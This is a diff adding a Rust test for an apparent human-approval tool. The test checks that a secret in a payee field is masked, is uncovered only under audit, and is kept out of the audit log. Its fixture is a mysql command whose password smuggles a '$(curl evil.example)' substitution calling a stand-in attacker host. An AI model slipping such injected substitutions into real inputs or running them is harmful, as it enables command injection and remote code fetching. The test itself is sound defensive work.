@@ -137,3 +137,34 @@ async fn a_decision_that_the_audit_did_not_take_has_an_exit_code_of_its_own() {
     assert!(ran.err.contains("the audit log did not take it"), "{ran:?}");
     assert_eq!(house.state(&call.id), "rejected", "it was done");
 }
+
+/// A payee that holds what a shell runs, behind the name of a secret.
+const PAYEE: &str = "mysql --password=\"aB3dE6gH$(curl evil.example)\"";
+
+#[tokio::test(flavor = "multi_thread")]
+async fn invariant_9b_what_is_masked_is_uncovered_where_it_is_audited() {
+    let house = House::new().await;
+    let call = house.wire(PAYEE, 120).await;
+    let shown = house.hitl(&["show", &call.id]).ended(0);
+    assert!(shown.out.contains("masked by its name: 8 characters"), "{shown:?}");
+    assert!(shown.out.contains("--uncover") && !shown.out.contains("curl"), "{shown:?}");
+    let refused = house.hitl(&["show", &call.id, "--uncover"]).ended(2);
+    assert!(refused.err.contains("--audit") && !refused.err.contains("curl"), "{refused:?}");
+    let folder = house.path("logs");
+    std::fs::create_dir(&folder).unwrap();
+    let uncover =
+        ["show", &call.id, "--uncover", "--as", "bob", "--audit", folder.to_str().unwrap()];
+    let ran = house.hitl(&uncover).ended(0);
+    assert!(ran.out.contains("$(curl evil.example)"), "{ran:?}");
+    let ran = house.hitl(&[&uncover[..], &["--json"]].concat()).ended(0);
+    assert_eq!(ran.json()[0]["places"][0]["at"], "/to");
+    let log = std::fs::read_to_string(folder.join("audit-1.jsonl")).unwrap();
+    assert!(log.contains(r#""event":"uncovered""#) && log.contains("uncovered /to"), "{log}");
+    assert!(!log.contains("curl") && !log.contains("aB3dE6gH"), "{log}");
+    // Of another tenant, it is not there.
+    house.hitl(&[&uncover[..], &["--tenant", "other"]].concat()).ended(3);
+    // A script that names the binding has been shown the masks.
+    house.hitl(&["approve", &call.id, "--binding", &call.binding]).ended(0);
+    let late = house.hitl(&uncover).ended(4);
+    assert!(!late.out.contains("curl"), "{late:?}");
+}
